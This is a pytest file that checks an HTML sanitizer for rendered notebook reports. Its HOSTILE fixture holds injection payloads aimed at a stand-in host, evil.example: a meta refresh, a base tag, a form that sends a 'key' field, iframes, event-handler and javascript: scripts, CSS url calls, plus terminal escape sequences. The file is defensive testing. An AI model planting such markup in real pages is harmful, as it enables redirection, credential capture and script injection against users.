"""What stands on a page passes an allow-list, whatever a row or a model has written."""

import nbformat
import pytest
from bs4 import BeautifulSoup

from unlearn_nb.runs import PAGE_POLICY, report_html

HOSTILE = """<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">
<form action="https://evil.example"><input name="key"><button>Send</button></form><iframe src="https://evil.example">
</iframe><object data="https://evil.example"></object><link rel="stylesheet" href="https://evil.example">
<img src="https://evil.example/p.png" onerror="x()"><a href="javascript:x()">a</a><style>body{display:none}</style>
<svg onload="x()"><script>x()</script></svg><p style="color: red; background: url(https://evil.example)">red</p>
<table class="dataframe"><tr><td colspan="2">cell</td></tr></table><img src="data:image/png;base64,AAAA">
<a href="https://good.example">good</a>"""


@pytest.fixture(scope="module")
def page():
    new = nbformat.v4
    shown = [new.new_output("display_data", data={"text/html": HOSTILE}),
             new.new_output("stream", name="stdout", text="\x1b]0;title\x07plain\x1b[2J\u202etxt")]
    cells = [new.new_markdown_cell("# Title\n\n" + HOSTILE), new.new_code_cell("1", outputs=shown)]
    return BeautifulSoup(report_html(new.new_notebook(cells=cells), "study/run"), "html.parser")


def test_nothing_that_acts_is_left(page):
    acting = ["meta", "base", "form", "input", "button", "iframe", "object", "link", "script", "svg"]
    assert not page.body.find_all(acting)
    assert not page.body.find_all("style") and "evil" not in str(page.body)
    assert not [tag for tag in page.body.find_all(True) for name in tag.attrs if name.startswith("on")]


def test_tables_pictures_and_links_stay(page):
    assert page.body.find("td", colspan="2") and page.body.find("img", src="data:image/png;base64,AAAA")
    assert "noopener" in page.body.find("a", href="https://good.example")["rel"]
    assert page.body.find("p", style=True)["style"].strip() == "color: red"


def test_escape_sequences_are_taken_out(page):
    assert "\x1b" not in str(page) and "\x07" not in str(page) and "plain" in page.body.get_text()


def test_the_policy_forbids_base_and_forms(page):
    assert page.find("meta", {"http-equiv": "Content-Security-Policy"})["content"] == PAGE_POLICY
    assert "base-uri 'none'" in PAGE_POLICY and "form-action 'none'" in PAGE_POLICY
